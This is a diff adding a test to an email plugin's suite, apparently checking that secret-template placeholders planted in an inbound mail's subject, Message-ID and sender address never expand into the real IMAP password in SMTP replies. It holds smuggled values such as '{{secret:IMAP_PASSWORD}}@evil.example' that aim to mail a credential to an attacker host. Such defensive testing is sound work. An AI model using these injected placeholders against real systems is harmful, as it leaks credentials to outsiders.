@@ -187,3 +187,20 @@ test('an SMTP 4xx surfaces as retryable; a bad address is final', { skip }, asyn
   await assert.rejects(p.send({ channel: 'email', chatId: 'tempfail@example.org', text: 'x', idempotencyKey: 't' }), { retryable: true });
   await assert.rejects(p.send({ channel: 'email', chatId: 'not an address', text: 'x', idempotencyKey: 'u' }), { retryable: false });
 });
+
+test('placeholders planted in a mail (subject, Message-ID, sender address) never become secrets in the SMTP conversation', { skip }, async () => {
+  const { sb, p } = await plugin({ allowFrom: ['*'] });
+  await waitLog(sb, /imap ready/);
+  const root = mail({ subject: 'Hi {{secret:IMAP_PASSWORD}}', body: 'x', id: '<{{secret:IMAP_PASSWORD}}@evil.example>' });
+  imap.deliver(root.raw);
+  const [m] = await inbound(sb, 1);
+  const before = smtp.messages().length;
+  await p.send({ channel: 'email', chatId: m.chatId, threadId: m.threadId, replyTo: m.platformMessageId, text: 'ok', idempotencyKey: 'planted-1' });
+  const sent = (await smtp.waitMessages(before + 1)).at(-1)!;
+  assert.ok(!sent.data.includes(imap.password), 'no secret in the headers');
+  await assert.rejects(
+    p.send({ channel: 'email', chatId: '{{secret:IMAP_PASSWORD}}@evil.example', text: 'ok', idempotencyKey: 'planted-2' }),
+    (e: { retryable?: boolean }) => e.retryable === false,
+  );
+  assert.ok(smtp.messages().every((x) => !x.to.join(' ').includes(imap.password)), 'no secret as a recipient');
+});
